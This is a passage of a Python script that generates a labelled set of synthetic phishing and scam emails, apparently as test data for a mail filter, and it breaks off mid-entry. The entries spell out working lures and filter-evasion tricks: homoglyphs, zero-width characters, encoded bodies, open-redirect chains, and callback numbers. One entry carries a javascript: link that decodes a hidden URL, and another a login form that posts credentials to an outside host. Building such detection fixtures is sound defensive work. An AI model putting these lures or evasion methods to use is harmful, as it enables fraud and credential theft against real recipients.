    kit("p01", _h), "PayPal 'account limited' lure from a lookalike domain with Cyrillic look-alike letters in the display name and subject and zero-width spaces inside every word, linking through a Google open redirect to a pages.dev credential page.",
    ip="45.146.165.37", helo="mail.paypal-account-resolution.support", extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])

# --- P02 DocuSign lure from a compromised title company: words cut into spans with hidden decoy letters, hidden news filler, workers.dev
_u = f"https://dsgn-closing-4418.srt-docs.workers.dev/?e={base64.b64encode(b'mike@brightlinehvac.com').decode()}&env={H('p02', n=32)}"
_h = card("DocuSign", "#ffc820", spans("Karen Liu sent you a document to review and sign.", "p02a", True), [
    spans("Please review the Closing Disclosure for 4418 Maple Crest Dr and sign before the wire cut-off.", "p02b", True),
    "Karen Liu<br>Escrow Officer, Summit Ridge Title LLC",
    spans("Do not share this email. This email contains a secure link to DocuSign.", "p02c", True)],
    (spans("REVIEW DOCUMENT", "p02d", True), _u),
    "Powered by DocuSign. If you have trouble signing, visit the Help Center.", hidden=filler("p02", 4, "none"))
add("docusign-spans-filler", "phishing", "phish", "mike", "2024-05-08 10:12:44 -0700",
    ("Karen Liu | Summit Ridge Title", "kliu@summitridgetitle.com"),
    "Completed: Please DocuSign: Closing Disclosure - 4418 Maple Crest Dr.pdf",
    kit("p02", _h, "ol"), "Sent from a compromised title-company Microsoft 365 mailbox (all authentication passes): a fake DocuSign envelope whose words are cut into one-to-three-letter spans with hidden decoy letters and padded with hidden news paragraphs, linking to a workers.dev page keyed with the recipient's address.",
    ip="40.107.220.114", helo="NAM11-DM6-obe.outbound.protection.outlook.com", sel="selector1",
    up=[("BY5PR14MB3921.namprd14.prod.outlook.com", "BY5PR14MB3921.namprd14.prod.outlook.com", "HTTPS")])

# --- P03 Royal Mail fee: fake address in the display name, base64-only HTML, decimal IP host, emoji subject
_ip = "185.217.98.41"
_h = card("Royal Mail", "#da202a", hg("Your parcel is waiting for delivery", "ao"), [
    "Dear Customer,",
    "We attempted to deliver your item today but could not because a <b>&pound;1.45</b> shipping fee was unpaid.",
    "Your parcel will be returned to sender if the fee is not settled within 48 hours.",
    "Tracking number: <b>RM 48 211 730 9GB</b>"],
    ("Reschedule Delivery", f"http://{dec_ip(_ip)}/rm/redelivery/?ref=RM482117309GB&s={H('p03', n=10)}"),
    "&copy; Royal Mail Group Ltd 2024. All rights reserved.", hidden=filler("p03", 3, "white"))
add("royalmail-fee-decimal-ip", "phishing", "phish", "tom", "2024-01-22 07:55:03 +0000",
    ("Royal Mail <no-reply@royalmail.com>", "rmnotify@dlv-parcelhub.top"),
    "📦 " + hg("Royal Mail", "oa") + ": Your parcel is on hold – £1.45 redelivery fee outstanding",
    Hh(_h, "base64"), "Royal Mail redelivery-fee scam whose display name carries a fake royalmail.com address, sent as a base64-only HTML body with white-on-white filler and a link to a host written as a decimal IP number.",
    ip="193.42.33.118", helo="mail.dlv-parcelhub.top", auth=("pass", "pass", "bestguesspass"))

# --- P04 HMRC refund: every letter an HTML entity, r2.dev
_u = f"https://pub-{H('p04', n=32)}.r2.dev/gov-uk/hmrc/refund.html?ref=HMRC-TR-2024-88175"
_h = card(ent("HM Revenue & Customs"), "#005ea5", ent("Tax Refund Notification"), [
    ent("Dear Taxpayer,"),
    ent("After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of GBP 612.40."),
    ent("Please submit the tax refund request and allow us 3-5 working days to process it. A refund can be delayed for a variety of reasons, such as submitting invalid records or applying after the deadline."),
    ent("Reference: HMRC-TR-2024-88175")], (ent("Claim your refund"), _u), ent("HM Revenue & Customs, BX9 1AS. Crown copyright."))
add("hmrc-refund-entities", "phishing", "phish", "sophie", "2024-04-18 11:20:51 +0100",
    ("HMRC Online Services", "refunds@gov-uk-taxservice.com"),
    "Tax Refund Notification: You are eligible for £612.40 (Ref: HMRC-TR-2024-88175)",
    Hh(_h), "HMRC tax-refund lure from a lookalike domain whose HTML writes every letter as a numeric character reference (no readable words in the source), linking to an r2.dev page.",
    ip="91.92.241.19", helo="vps-241-19.gov-uk-taxservice.com", extra=["X-Mailer: Microsoft CDO for Windows 2000"])

# --- P05 SBI YONO KYC: fullwidth letters, raw IP host, Gmail freemail
_u = "http://103.174.51.88/sbi/yono/kyc/index.php?id=IN" + H("p05", n=12)
_pl = (f"Dear Customer,\n\nYour {fw('SBI')} {fw('YONO')} account will be BLOCKED today due to incomplete {fw('KYC')}.\n"
       f"Kindly update your {fw('PAN')} card details immediately to avoid suspension of net banking.\n\n"
       f"Update here: {_u}\n\n{fw('State Bank of India')}\nCustomer Care")
add("sbi-yono-fullwidth-ip", "phishing", "phish", "priya", "2024-07-09 09:03:12 +0530",
    (fw("SBI YONO") + " Alerts", "sbi.yono.kyc.desk@gmail.com"),
    fw("SBI") + " YONO: Your account will be blocked today. Update PAN/KYC immediately 🚫",
    gmail_body("p05", _pl), "SBI YONO KYC/PAN-update scam from a Gmail account, with brand names in fullwidth letters so keyword filters miss them, linking to a bare-IP PHP page.",
    **GM(1, "p05"))

# --- P06 Income Tax refund: quoted-printable soft breaks inside every key word, Bing click redirect
_tgt = "https://itr-refund-status.in-efile.net/refund/verify.php?pan=&ay=2025-26"
_u = f"https://www.bing.com/ck/a?!&&p={H('p06', n=64)}JmltdHM9MTc1MzE0MjQwMA&ptn=3&ver=2&hsh=4&fclid={H('p06f', n=8)}-{H('p06g', n=4)}&u=a1{b64u(_tgt)}&ntb=1"
_h = ("<html><body style='font-family:Arial'><table width='620' align='center' style='border:1px solid #d0d7de'>"
      "<tr><td style='background:#1b3d6d;color:#fff;padding:14px;font-size:18px'><b>Inc¦ome Tax Depart¦ment, Govern¦ment of In¦dia</b></td></tr>"
      "<tr><td style='padding:18px;font-size:14px;line-height:21px'>Dear Tax¦payer,<br><br>Your In¦come Tax Re¦fund of <b>Rs. 18,640/-</b> for Assess¦ment Year 2025-26 "
      "has been pro¦cessed. However, the re¦fund could not be cred¦ited due to a mis¦match in your bank ac¦count details.<br><br>"
      f"Please veri¦fy your PA¦N and bank ac¦count within 3 days to avoid can¦cellation of the re¦fund.<br><br>"
      f"<a href='{_u}' style='background:#e36c0a;color:#fff;padding:10px 22px;text-decoration:none'>Veri¦fy Now</a><br><br>"
      "Regards,<br>Central Process¦ing Centre, Ben¦galuru</td></tr></table></body></html>")
add("itr-refund-qp-bing", "phishing", "phish", "anil", "2025-07-22 16:48:30 +0530",
    ("Income Tax Department", "no-reply@efiling-itd.co.in"),
    "Income Tax Refund of Rs. 18,640/- processed for AY 2025-26 – action required",
    alt("p06", T("Your refund is processed. Open this mail in HTML view to verify.\n"), qpleaf(_h), "php"),
    "Indian income-tax refund lure from a lookalike domain whose quoted-printable HTML breaks every keyword with soft line breaks, linking through a Bing click redirect whose u= parameter carries the base64 phishing URL.",
    ip="154.211.96.23", helo="mail.efiling-itd.co.in")

# --- P07 GCash restriction: Cyrillic С in GCash, white-on-white filler, s.id shortener
_h = card(hg("GCash", "C"), "#0070e0", "Your wallet is temporarily restricted", [
    "Hi Jerome,",
    f"We detected a login to your {hg('GCash', 'C')} account from a new device (Infinix HOT 40, Cebu City). To protect your funds, Send Money and Cash Out are on hold.",
    "Verify your account within 24 hours to lift the restriction. Unverified wallets will be deactivated in line with BSP rules."],
    ("Verify My Account", "https://s.id/GCash-Verify-PH"), "G-Xchange, Inc. is regulated by the Bangko Sentral ng Pilipinas.",
    hidden=filler("p07", 4, "white"))
add("gcash-restricted-whitetext", "phishing", "phish", "jerome", "2024-06-05 20:14:09 +0800",
    (hg("GCash", "C") + " Support", "care@gcash-ph-verify.com"),
    hg("GCash", "C") + ": Your wallet is temporarily restricted – verify within 24 hours",
    kit("p07", _h), "GCash wallet-restriction lure from a lookalike domain, with a Cyrillic С in the brand name, white-on-white news filler to dilute the text, and an s.id short link.",
    ip="172.245.71.90", helo="gcash-ph-verify.com", sel="default")

# --- P08 BDO: image-only body (remote image) wrapped in a link
_h = (f'<html><body style="margin:0"><center><a href="https://bdo-secure-ph.cyou/online/login?sid={H("p08", n=24)}">'
      '<img src="https://i.ibb.co/7QpR2kx/bdo-notice-2025.png" width="600" height="520" border="0" alt=""></a></center></body></html>')
add("bdo-image-only", "phishing", "phish", "maricel", "2025-01-14 06:31:45 +0800",
    ("BDO Unibank Online", "alerts@bdo-onlinebanking-ph.com"),
    "BDO: Unusual sign-in detected on your account",
    Hh(_h), "BDO Unibank 'unusual sign-in' lure whose whole body is one remote image (hosted on ImgBB) wrapped in a link to a .cyou login page, leaving no text to analyse.",
    ip="38.180.62.14", helo="mail.bdo-onlinebanking-ph.com", auth=("pass", "none", "none"))

# --- P09 GTBank BVN: zero-width joiners inside words, YouTube redirect to web.app
_tgt = "https://gtworld-bvn-update.web.app/"
_u = f"https://www.youtube.com/redirect?event=video_description&redir_token=QUFFLUhqb{B64('p09', n=60)}&q={pct(_tgt)}&v=x3KpQ9tR0aY"
_h = card("GTBank", "#dd4f05", zw("Your GTWorld profile has been restricted", "\u200d", 3), [
    zw("Dear Valued Customer,", "\u200d", 3),
    zw("In line with the new CBN directive on BVN and NIN linkage, your GTWorld mobile banking profile has been restricted because your BVN record could not be validated.", "\u200d", 3),
    zw("Kindly revalidate your BVN now to restore full access. Failure to comply within 24 hours will lead to your account being placed on Post No Debit.", "\u200d", 3)],
    ("Revalidate BVN", _u), "Guaranty Trust Bank Ltd. RC 152321. Licensed by the Central Bank of Nigeria.")
add("gtbank-bvn-youtube-redirect", "phishing", "phish", "chinedu", "2024-09-10 12:07:33 +0100",
    ("GTBank Customer Care", "customercare@gtworld-ng.com"),
    "Your GTWorld profile has been restricted – BVN revalidation required",
    kit("p09", _h), "GTBank BVN-revalidation lure from a lookalike domain with zero-width joiners inside the words, linking through a YouTube redirect (fully %-encoded q parameter) to a Firebase web.app page.",
    ip="45.88.186.140", helo="mx1.gtworld-ng.com")

# --- P10 UN compensation advance fee: homoglyph subject, base64 plain text, mailto-only, Reply-To to Gmail
_pl = ("Attention: Beneficiary,\n\nThis is to inform you that the United Nations Compensation Commission (UNCC) in conjunction with the "
       "World Bank has approved the release of your compensation payment of USD $1,500,000.00 (One Million Five Hundred Thousand United "
       "States Dollars) as one of the victims of scam and unpaid contract fraud in West Africa.\n\nYour payment has been loaded on an ATM "
       "Visa card which will be delivered to your address by courier. To receive it, reconfirm the following to the Payment Director, "
       "Dr. Esther Williams, by email: esther.williams.uncc@gmail.com\n\n1. Full name\n2. Home address\n3. Mobile number\n4. Occupation\n"
       "5. Copy of ID card\n\nNote that a delivery/insurance fee of USD $285 only is payable before dispatch.\n\nYours faithfully,\n"
       "Mr. Daniel Forsyth\nSecretary, UN Compensation Commission\n")
_h = ("<div style='font-family:Times New Roman;font-size:15px'>" + _pl.replace("\n", "<br>").replace(
    "esther.williams.uncc@gmail.com", "<a href='mailto:esther.williams.uncc@gmail.com?subject=Claim%20Ref%20UN%2FCF%2F2025%2F0713'>esther.williams.uncc@gmail.com</a>") + "</div>")
add("un-compensation-mailto", "phishing", "phish", "funmi", "2025-03-03 04:22:10 +0000",
    ("United Nations Compensation Commission", "payments.office@uncc-int.org"),
    hg("Compensation Payment", "eoa") + " of USD $1,500,000.00 – Ref UN/CF/2025/0713",
    alt("p10", T(_pl, "base64"), Hh(_h, "base64"), "yh"),
    "Advance-fee 'UN compensation' letter with Cyrillic letters in the subject keywords, base64-encoded parts, no web link at all (only a mailto) and a Reply-To that diverts answers to a Gmail address.",
    ip="194.26.29.77", helo="mail.uncc-int.org", reply_to=("Dr. Esther Williams", "esther.williams.uncc@gmail.com"))

# --- P11 Geek Squad callback: fullwidth digits and zero-width spaces in the phone number, PDF invoice
_ph = "+1 (808) 451-7209"
_phx = fw("+1 (808) 451-7209").replace("４", "４\u200b")
_pl = (f"Dear Customer,\n\nThank you for renewing your {zw('Geek Squad')} Total Protection plan. Your membership has been renewed for "
       f"3 years and $489.99 will be debited from your account within 24 hours.\n\nOrder ID: GS-84150277\nProduct: Total Tech Support (3 Years, 5 Devices)\n"
       f"Amount: $489.99\nPayment: Auto Debit\n\nIf you did not authorize this charge or wish to cancel, please contact our billing department "
       f"at {_phx} within 24 hours to claim a refund.\n\nRegards,\n{zw('Geek Squad')} Billing Team\n")
_pdf = files.pdf(["GEEK SQUAD - INVOICE", "", "Invoice No: GS-84150277      Date: 03/27/2024", "Bill To: Kelly Ortega",
                  "Total Tech Support - 3 Years / 5 Devices ........ $489.99", "Status: PAID (Auto-Renewal)", "",
                  f"To cancel or dispute this charge call {_ph} (Mon-Sat 8AM-8PM)"], title="Invoice GS-84150277")
add("geeksquad-callback-pdf", "phishing", "phish", "kelly", "2024-03-27 13:36:58 -0400",
    ("Geek Squad Billing", "geeksquadteam.billingdept@gmail.com"),
    "Invoice #GS-84150277 – Auto-Renewal Confirmation",
    mixed("p11", T(_pl), attachment("application/pdf", "Invoice_GS84150277.pdf", _pdf), style="gm"),
    "Geek Squad auto-renewal callback scam from Gmail with no link: the refund phone number is written in fullwidth digits with zero-width spaces (and in clear in the attached PDF invoice) so number-matching filters miss it.",
    **GM(2, "p11"))

# --- P12 Norton callback: font-size:0 filler between every line, compromised WordPress host
_rows = [("Product", "Norton 360 Deluxe + LifeLock Select"), ("Order Number", "NT-2024-0819-66310"), ("Term", "1 Year, 5 Devices"),
         ("Amount", "$349.99"), ("Payment", "Visa ending ****")]
_tbl = "".join(f"<tr><td style='padding:6px;border:1px solid #ddd'>{a}</td><td style='padding:6px;border:1px solid #ddd'>{b}</td></tr>"
               + filler(f"p12{a}", 1, "zero") for a, b in _rows)
_h = card("Norton", "#ffc300", "Your subscription has been renewed", [
    "Hi Dana, " + filler("p12x", 1, "zero") + "your Norton 360 subscription was renewed automatically and your card will be charged today.",
    f"<table style='border-collapse:collapse;font-size:14px'>{_tbl}</table>",
    "Not you? To cancel and receive a full refund, call our billing team at <b>+1 (844) 390&#8209;1187</b> within 24 hours.",
    filler("p12y", 2, "zero")], None, "NortonLifeLock Inc. Tempe, AZ")
add("norton-callback-font0", "phishing", "phish", "dana", "2024-08-19 15:02:11 -0400",
    ("Norton 360", "noreply@bluecrest-consulting.net"),
    "Your Norton 360 Deluxe subscription renewed – $349.99 charged (Order NT-2024-0819-66310)",
    kit("p12", _h), "Norton renewal callback scam sent through a compromised small-business domain's shared host, with zero-size news text between every line and table row to poison content scoring, and only a phone number as the call to action.",
    ip="162.241.218.93", helo="box5321.bluehost.com", mailfrom="bluecres@box5321.bluehost.com", auth=("pass", "none", "none"),
    extra=["X-Mailer: PHPMailer 6.8.0"])

# --- P13 Genuine PayPal invoice abused: homoglyph merchant note carrying a callback number
_note = hg("Your PayPal account has been charged GBP 399.99 for McAfee Total Protection. If you did not authorise this payment call PayPal Billing Support on +44 20 3868 4471 to cancel.", "aeo")
_h = card("PayPal", "#003087", "Billing Department sent you an invoice", [
    "Amount requested: <b>&pound;399.99 GBP</b>", "Due on receipt &middot; Invoice number 0048",
    f"<b>Note from seller:</b><br>{_note}"],
    ("View and Pay Invoice", "https://www.paypal.com/invoice/p/#INV2-7QKX-4HZB-2MTY-9PLD"),
    "Please don't reply to this email. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg.")
add("paypal-invoice-genuine-callback", "phishing", "phish", "tom", "2024-11-05 10:44:29 -0800",
    ("PayPal", "service@paypal.co.uk"), "Invoice from Billing Department (0048)",
    kit("p13", _h, "jm"), "Callback scam sent through PayPal's own invoicing (genuine paypal.co.uk, all authentication passes): the seller note claims a £399.99 McAfee charge and gives a phone number, written with Cyrillic look-alike letters to dodge note filtering.",
    ip="173.0.84.227", helo="mx0.slc.paypal.com", mailfrom="service@paypal.co.uk", sel="pp-dkim1", p="reject")

# --- P14 M365 password expiry: text only in CSS ::before content, nested LinkedIn -> Google -> pages.dev
_tgt = "https://www.google.com/url?q=https://m365-portal-keep.pages.dev/#adaeze@lagosfreshfoods.com.ng&sa=D"
_u = f"https://www.linkedin.com/redir/redirect?url={pct(_tgt)}&urlhash=x9Qz&trk=public_post-text"
_css, _b = before(["Password Expiry Notice", "The password for adaeze@lagosfreshfoods.com.ng expires today.",
                   "To keep using your current password, confirm it below.", "Failure to do so may lock your mailbox."], "q")
_h = card("Microsoft 365", "#0078d4", "", [_b], ("Keep Current Password", _u), "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", css=_css)
add("m365-expiry-css-before", "phishing", "phish", "adaeze", "2025-05-21 08:15:40 +0100",
    ("Microsoft Office365 Team", "no-reply@office-notify.net"), "Password Expiry Notice for adaeze@lagosfreshfoods.com.ng",
    kit("p14", _h, plain="This message requires HTML view.\n"),
    "Microsoft 365 password-expiry lure whose visible wording lives only in CSS ::before content (the HTML text nodes are empty), linking through a LinkedIn redirect wrapping a Google redirect to a pages.dev page with the address in the fragment.",
    ip="5.181.80.151", helo="mail.office-notify.net")

# --- P15 SharePoint share from a compromised mailbox: fake address in the display name, base64 HTML, zero-width, IPFS
_u = f"https://ipfs.io/ipfs/bafybeig{H('p15', n=51)}/remit.html#mike@brightlinehvac.com"
_h = card(zw("SharePoint", "\u200b", 5), "#038387", zw("Cascade Dental Group shared a file with you"), [
    zw("Here's the document that Cascade Dental Group shared with you."),
    '<b>Payment_Remittance_Q3.pdf</b>', zw("This link will work for anyone in your organisation.")],
    ("Open", _u), "Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA")
add("sharepoint-display-addr-ipfs", "phishing", "phish", "mike", "2024-10-02 14:27:06 -0700",
    ("SharePoint Online <no-reply@sharepointonline.com>", "accounting@cascadedentalgroup.com"),
    'Cascade Dental Group shared "Payment_Remittance_Q3.pdf" with you',
    Hh(_h, "base64"), "Fake SharePoint share sent from a compromised dental practice mailbox (authentication passes) whose display name contains a sharepointonline.com address, base64 HTML with zero-width spaces in the brand, linking to an IPFS gateway page pre-filled with the recipient.",
    ip="40.107.236.58", helo="NAM12-BN8-obe.outbound.protection.outlook.com", sel="selector2")

# --- P16 WhatsApp task job (India): soft hyphens inside words, wa.me link, Gmail freemail
_wa = "https://wa.me/918527419630?text=Hi%2C%20I%20am%20interested%20in%20the%20part%20time%20job"
_t = ("Hello,\n\nWe got your profile from an online job portal. We are hiring part-time online workers for our digital marketing team. "
      "The work is simple: like YouTube videos and rate hotel listings using your mobile. It takes 30-60 minutes a day.\n\n"
      "Daily salary: Rs. 3,000 to Rs. 8,000, paid the same day to your bank account or UPI.\nNo fee. No experience needed. Age 21+.\n\n"
      "Contact our HR manager Ms. Riya on WhatsApp to get your first task and Rs. 200 joining bonus:\n")
_pl = zw(_t, "\u00ad", 3) + _wa + "\n\nRegards,\nRecruitment Team\n"
_hb = zw(_t, "&shy;", 3).replace("\n", "<br>") + f'<a href="{_wa}">Chat on WhatsApp</a><br><br>Regards,<br>Recruitment Team'
add("whatsapp-task-job-softhyphen", "phishing", "phish", "priya", "2024-11-21 11:19:02 +0530",
    ("Recruitment Team", "hiring.digitalteam2024@gmail.com"),
    hg("Part-time job", "ao") + " offer: Earn ₹3,000–₹8,000 daily from home 💰",
    gmail_body("p16", _pl, f'<div dir="ltr">{_hb}</div>'),
    "WhatsApp 'like videos, earn daily' task-scam recruitment from Gmail, with soft hyphens (U+00AD and &shy;) inside every word and Cyrillic letters in the subject, pointing to a wa.me chat.",
    **GM(3, "p16"))

# --- P17 Telegram task job (Philippines): quoted-printable soft breaks inside words, Reply-To to Outlook
_tg = "https://t.me/+Xk3pR0aQm7cyMGQ1"
_h = ("<div style='font-family:Verdana;font-size:14px'>Good day!<br><br>We are looking for <b>Online Product Raters</b> to help sellers boost their store ra¦tings. "
      "You only need a phone and 30 min¦utes a day.<br><br>&#8369;1,500 - &#8369;5,000 daily sal¦ary + com¦mission per task<br>Paid via GCash or Ma¦ya every day<br><br>"
      f"Join our Tele¦gram group to start your first task now: <a href='{_tg}'>{_tg}</a><br><br>Or reply to this email with your name and GCash number.<br><br>"
      "Angela Reyes<br>HR Coordi¦nator, LZD Affiliates PH</div>")
_p = ("Good day! We are looking for Online Product Raters. P1,500 - P5,000 daily sal¦ary + com¦mission per task, paid via GCash.\n"
      f"Join our Tele¦gram group: {_tg}\nAngela Reyes, HR\n")
add("telegram-task-job-qp", "phishing", "phish", "jerome", "2025-02-17 13:05:47 +0800",
    ("LZD Affiliates PH", "partners@lzd-affiliates-ph.com"),
    "Hiring: Online Product Rater – ₱1,500 to ₱5,000/day, 30 mins only (no experience)",
    alt("p17", qpleaf(_p, "plain"), qpleaf(_h), "php"),
    "Telegram 'product rating' task scam posing as a Lazada affiliate programme from a lookalike domain, its quoted-printable parts broken by soft line breaks inside the tell-tale words (salary, commission, Telegram), with Reply-To diverted to an Outlook.com address.",
    ip="103.151.226.19", helo="mail.lzd-affiliates-ph.com", reply_to=("Angela Reyes", "angela.reyes.hrd@outlook.com"))

# --- P18 Pig-butchering 'wrong address' opener: plain conversation, spaced-out URL
_pl = ("Hi Michael, it's Jessica from the wine tasting in Napa last month 🙂 I hope I got your email right? You said you wanted the "
       "name of the platform my uncle uses.\n\nIt's " + hg("Coinvexa Pro", "oa") + ", he has been doing the BTC/USDT arbitrage there for two years and it "
       "is very stable, around 1.2-1.8% a day. I started with $3,000 in June and I am already at $11,400. I can show you how it works "
       "on WhatsApp if you like, it's easier with screenshots.\n\nThe site is www . coinvexa-pro . com (type it without spaces, "
       "use my invite code JL0822 so you get the new user bonus).\n\nOh wait, if you are not Michael, sorry for bothering you! "
       "But maybe it's fate we met 😊 Where are you based?\n\nJessica\n")
_h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
      + "".join(f"<div>{ln or '<br>'}</div>" for ln in _pl.split("\n")) + "</div></body></html>")
add("pig-butchering-wrong-person", "phishing", "phish", "dana", "2024-09-03 22:47:15 -0700",
    ("Jessica Lin", "jessica.lin.0822@outlook.com"), "Hi, is this still Michael's email? 🙂",
    alt("p18", _pl, _h, "ol"),
    "Pig-butchering opener from an Outlook.com account posing as a mis-addressed friendly note, steering to a fake crypto arbitrage platform whose name carries Cyrillic letters and whose address is written with spaces so no link is detected.",
    **OLF("p18"))

# --- P19 MetaMask wallet verification: words re-ordered with CSS flex order, pages.dev
_u = f"https://metamask-io-verify.pages.dev/restore?wid={H('p19', n=24)}"
_h = card(hg("MetaMask", "ea"), "#f6851b", flex("Wallet verification required before 30 June 2025", "p19a"), [
    flex("Dear user, due to new regulatory requirements all MetaMask wallets must complete verification. Unverified wallets will have restricted access and pending transactions may be lost.", "p19b"),
    flex("Verification takes less than 3 minutes and requires your Secret Recovery Phrase to confirm ownership.", "p19c")],
    ("Verify Wallet", _u), "ConsenSys Software Inc. &middot; 49 Bogart St, Brooklyn, NY")
add("metamask-verify-flex-order", "phishing", "phish", "tom", "2025-06-11 09:30:22 +0000",
    (hg("MetaMask", "ea") + " Support", "support@metamask-wallet-sync.io"),
    "Action required: Wallet verification before 30 June 2025",
    kit("p19", _h), "MetaMask seed-phrase harvesting lure from a lookalike domain: the sentences are written in shuffled word order and put back in reading order with CSS flexbox 'order', the brand has Cyrillic letters, and the button goes to pages.dev.",
    ip="45.141.215.84", helo="smtp.metamask-wallet-sync.io")

# --- P20 Coinbase withdrawal callback: phone number and key words as HTML entities
_h = card("coinbase", "#0052ff", "New withdrawal request", [
    "A withdrawal of <b>0.8400 BTC</b> (&asymp; $51,206.40) to <tt>bc1q9h7x4ty2m0...k7x2m</tt> was requested from your account from a new device in Lagos, NG.",
    ent("If this was not you, call Coinbase Support immediately to cancel the transaction: ") + "<b>" + ent("+1 (833) 614-2290") + "</b>",
    "The withdrawal will be processed automatically in 2 hours."], None, "Coinbase, Inc. 82 Flatbush Ave Unit 1022, Brooklyn, NY")
add("coinbase-withdrawal-callback-entities", "phishing", "phish", "maricel", "2024-12-09 03:12:39 +0000",
    ("Coinbase", "no-reply@cb-secure-alerts.net"), "Withdrawal Request: 0.84 BTC – not you? Cancel now",
    kit("p20", _h, "sg", plain="A withdrawal of 0.8400 BTC was requested from your account. View this message in HTML for details.\n"), "Coinbase 'withdrawal requested' callback scam from a lookalike domain with no link: the call-to-action sentence and the phone number are written as numeric character references so text filters see no number.",
    ip="85.209.11.201", helo="o1.cb-secure-alerts.net", extra=["X-Mailer: Sendinblue"])

# --- P21 Fake exchange 'withdrawal tax' (pig-butchering stage two): key sentence one letter per table cell
def tdletters(s: str) -> str:
    return ('<table cellpadding="0" cellspacing="0"><tr>' + "".join(f"<td>{c if c != ' ' else '&nbsp;'}</td>" for c in s) + "</tr></table>")


_h = card("BitvexGlobal", "#12b886", "Withdrawal pending", [
    "Dear Chinedu Okafor (UID 80471263),",
    tdletters("Your withdrawal of 18,420.55 USDT is frozen until the 10% capital gains tax is paid."),
    tdletters("Deposit 1,842.06 USDT (TRC20) within 72 hours or the account will be permanently locked."),
    "Deposit address: TQ4r8Lx2bN6yPj1kWs9vZcE3mD7hFa5uKg"],
    ("Pay Tax Now", "https://bitvexglobal.net/account/deposit?order=WD2025041988017"), "BitvexGlobal Ltd. Registered in Saint Vincent.")
add("usdt-withdrawal-tax-tdletters", "phishing", "phish", "chinedu", "2025-04-19 18:40:51 +0100",
    ("BitvexGlobal Support", "support@bitvexglobal.net"), "Withdrawal of 18,420.55 USDT pending – tax clearance required",
    kit("p21", _h, plain="Your withdrawal is pending. Please log in to your BitvexGlobal account for details.\n"), "Fake crypto exchange (pig-butchering stage two) demanding a 'capital gains tax' deposit before a withdrawal, with the demand sentences spelt out one letter per table cell.",
    ip="194.87.31.66", helo="mail.bitvexglobal.net")

# --- P22 DocuSign envelope abused: genuine docusign.net, zero-width in the sender's message, Reply-To elsewhere
_a, _c, _e = (f"{H(x, n=8)}-{H(x, n=12)[8:12]}-4{H(x, n=15)[12:15]}-a{H(x, n=18)[15:18]}-{H(x, n=30)[18:30]}" for x in ("p22a", "p22c", "p22e"))
_u = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={_a}&etti=24&acct={_c}&er={_e}"
_h = card("DocuSign", "#ffc820", "Brightline Payroll Services sent you a document to review and sign.", [
    "<b>Brightline Payroll Services</b><br>payroll.services@brightline-hr.com",
    zw("Hi Mike, please review and sign the attached compensation adjustment before Friday so it takes effect in the next payroll run. Thanks, Payroll"),
    ],
    ("REVIEW DOCUMENT", _u),
    "Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.")
add("docusign-genuine-envelope-abuse", "phishing", "phish", "mike", "2025-01-30 09:58:12 -0800",
    ("Brightline Payroll Services via Docusign", "dse_NA4@docusign.net"),
    "Complete with Docusign: 2025_Compensation_Adjustment_Brightline.pdf",
    kit("p22", _h, "jm"), "Envelope sent through DocuSign itself by a throwaway account named 'Brightline Payroll Services' (docusign.net passes everything): the document behind the genuine signing link carries the phishing link, the sender note has zero-width spaces, and Reply-To goes to an outside address.",
    ip="64.207.219.75", helo="mailna4.docusign.net", mailfrom="bounces@docusign.net", p="reject", sel="s1",
    reply_to=("Brightline Payroll Services", "payroll.services@brightline-hr.com"))

# --- P23 Remittance advice HTML attachment with a javascript: link that decodes the URL with atob(), sent from a compromised supplier
_tgt = "https://westcountry-remit.azurewebsites.net/excel/view?doc=HLB0311"
_att = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Remittance_Advice_HLB_0311.xlsx</title></head>"
        "<body style=\"font-family:Segoe UI,Arial;background:#f3f2f1\"><div style=\"width:420px;margin:80px auto;background:#fff;padding:30px;box-shadow:0 2px 8px #aaa\">"
        "<div style=\"color:#217346;font-size:22px;font-weight:600\">Excel Online</div><p>Remittance_Advice_HLB_0311.xlsx (48 KB)</p>"
        "<p style=\"color:#605e5c\">This document is protected. Sign in with your work account to view.</p>"
        f"<a href=\"javascript:void(location.href=atob('{base64.b64encode(_tgt.encode()).decode()}')+'&amp;e='+btoa('sophie@harbourlanebakery.co.uk'))\" "
        "style=\"display:block;background:#217346;color:#fff;text-align:center;padding:10px;text-decoration:none\">Open in Excel</a></div></body></html>")
_h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Calibri,sans-serif;font-size:11pt">'
      "<p>Hi Sophie,</p><p>Please find attached remittance advice for invoices 4471 and 4472, paid today.</p><p>Kind regards,</p>"
      "<p>Gemma Price<br>Accounts Assistant<br>West Country Dairy Ltd<br>01934 712 480</p></div></body></html>")
add("remittance-html-javascript-link", "phishing", "phish", "sophie", "2024-03-11 15:22:40 +0000",
    ("Gemma Price", "gemma.price@westcountrydairy.co.uk"), "Remittance Advice - Harbour Lane Bakery",
    mixed("p23", alt("p23", strip_html(_h), _h, "ol"), attachment("text/html", "Remittance_Advice_HLB_0311.html", _att.encode()), style="ol"),
    "Remittance-advice lure from a compromised supplier's Microsoft 365 mailbox (all pass) with an HTML attachment whose only link is javascript: code that base64-decodes the phishing URL and appends the victim's address.",
    ip="40.107.22.91", helo="EUR05-AM6-obe.outbound.protection.outlook.com", sel="selector1",
    up=[("CWLP123MB5567.GBRP123.PROD.OUTLOOK.COM", "CWLP123MB5567.GBRP123.PROD.OUTLOOK.COM", "HTTPS")])

# --- P24 'SWIFT copy' HTML attachment that meta-refreshes into a data: URI login page
_inner = ("<html><body style='font-family:Segoe UI;background:#f2f2f2'><div style='width:360px;margin:90px auto;background:#fff;padding:36px'>"
          "<b>Microsoft</b><h3>Sign in to view SWIFT_COPY.pdf</h3><form method='POST' action='https://www.abujaeventcentre.com/wp-content/uploads/2025/11/post.php'>"
          "<input name='login' value='adaeze@lagosfreshfoods.com.ng' style='width:100%'><br><br><input name='passwd' type='password' placeholder='Password' style='width:100%'>"
